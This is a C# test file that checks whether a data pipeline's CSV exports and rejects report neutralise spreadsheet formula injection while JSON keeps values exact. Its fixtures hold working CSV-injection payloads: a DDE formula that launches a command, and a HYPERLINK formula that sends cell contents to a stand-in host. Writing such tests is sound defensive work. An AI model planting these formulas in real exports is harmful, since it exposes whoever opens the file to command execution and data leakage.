using System.Net.Http.Json;
using System.Text.Json.Nodes;
using Centric.Testing;

namespace Centric.Functions.Tests;

/// <summary>
/// Exports holding spreadsheet formulas (CSV injection) come back from every <c>format=csv</c> route and from the
/// rejects route as text a spreadsheet shows and never evaluates; JSON keeps the values exactly as they were. A
/// huge rejected value comes back cut to 200 characters with its length.
/// </summary>
public sealed class CsvSafetyTests(AzuriteFixture azurite) : HandlerTest(azurite)
{
    private const string Hyperlink = "=HYPERLINK(\"http://x.example/?\"&A1;\"click\")";
    private const string Command = "=cmd|' /C calc'!A0";

    private static string Quoted(string value) => "\"" + value.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";

    private async Task DropHostileExportsAsync()
    {
        await DropAsync("hostile/orders/orders.csv", string.Join('\n',
            "order_id,customer_id,order_date,amount,currency,status",
            $"O1,{Quoted(Command)},2025-01-05,100.00,EUR,completed",
            $"O2,C2,2025-01-06,{Quoted(Hyperlink)},EUR,completed",
            "O3,+1,2025-01-07,20,EUR,completed",
            "O4,@SUM(A1),2025-01-08,30,EUR,completed",
            "O5,C5,2025-01-09,@SUM(A1),EUR,completed",
            "\"\tO7\",C7,2025-01-11,5,EUR,completed,\"\tleading tab\"",
            "\"\rO8\",C8,2025-01-12,\"\r-2x\",EUR,completed,\"\rleading CR\"",
            $"O9,{Quoted(Command)},2025-02-03,40.00,EUR,completed") + "\n");
        await DropAsync("hostile/customers/customers.csv", string.Join('\n',
            "customer_id,country",
            $"{Quoted(Command)},=1+2",
            "+1,@SUM(A1)",
            "@SUM(A1),+1",
            "C2,-1") + "\n");
        Assert.All(await RunPipelineAsync(), i => Assert.Equal(200, i.Status));
    }

    private async Task<string> RejectsAsync(string dataset)
    {
        var ledger = await Client.GetFromJsonAsync<JsonArray>($"/api/datasets/{dataset}/ingestions");
        var orders = Assert.Single(ledger!, e => (string?)e!["kind"] == "orders")!;
        return await Client.GetStringAsync((string?)orders["rejects"]);
    }

    [Fact]
    public async Task CsvRoutes_HostileExports_NoCellIsAFormula()
    {
        await DropHostileExportsAsync();

        string[] routes =
        [
            "/api/datasets/hostile/metrics/revenue?format=csv&segment=country:*&grain=month",
            "/api/datasets/hostile/metrics/orders?format=csv&segment=country:*",
            "/api/datasets/hostile/metrics/new-customers?format=csv",
            "/api/datasets/hostile/cohorts?format=csv",
        ];
        foreach (var route in routes)
        {
            var csv = await Client.GetStringAsync(route);
            Assert.True(CsvTable.Parse(csv).Count > 1, route + " has rows");
            Assert.Empty(CsvTable.Formulas(csv));
        }

        var rejects = await RejectsAsync("hostile");
        Assert.Empty(CsvTable.Formulas(rejects));
        var values = CsvTable.Parse(rejects).Skip(1).Select(r => r[2]).ToList();
        Assert.Contains("'" + Hyperlink, values);
        Assert.Contains("'@SUM(A1)", values);
        Assert.Contains(values, v => v.StartsWith("'\tO7", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Segments_AreGuardedTextInCsv_AndExactInJson()
    {
        await DropHostileExportsAsync();

        var csv = CsvTable.Parse(await Client.GetStringAsync("/api/datasets/hostile/metrics/revenue?format=csv&segment=country:*"));
        var json = await Client.GetFromJsonAsync<JsonArray>("/api/datasets/hostile/metrics/revenue?segment=country:*");

        Assert.Contains(csv, r => r[6] == "country:=1+2");
        Assert.Contains(csv, r => r[6] == "country:@SUM(A1)");
        Assert.Contains(json!, r => (string?)r!["segment"] == "country:=1+2");
        Assert.Contains(json!, r => (string?)r!["segment"] == "country:@SUM(A1)");
    }

    [Fact]
    public async Task Rejects_TenMegabyteValue_ComesBackCutTo200CharactersWithItsLength()
    {
        var huge = "=" + new string('x', (10 * 1024 * 1024) - 1);
        await DropAsync("huge/orders/orders.csv", "order_id,customer_id,order_date,amount\nO1,C1,2025-01-05," + huge + "\nO2,C1,2025-01-06,5\n");
        Assert.All(await RunPipelineAsync(), i => Assert.Equal(200, i.Status));

        var rejects = await RejectsAsync("huge");

        Assert.True(rejects.Length < 2048, $"the rejects response is {rejects.Length} characters, not 10 MB");
        var record = CsvTable.Parse(rejects)[1];
        var shown = huge[..200] + "…(10485760 characters)";
        Assert.Equal(["2", "amount", "'" + shown], record[..3]);
        Assert.Equal($"amount '{shown}' is not a number (decimal separator '.')", record[3]);
    }
}
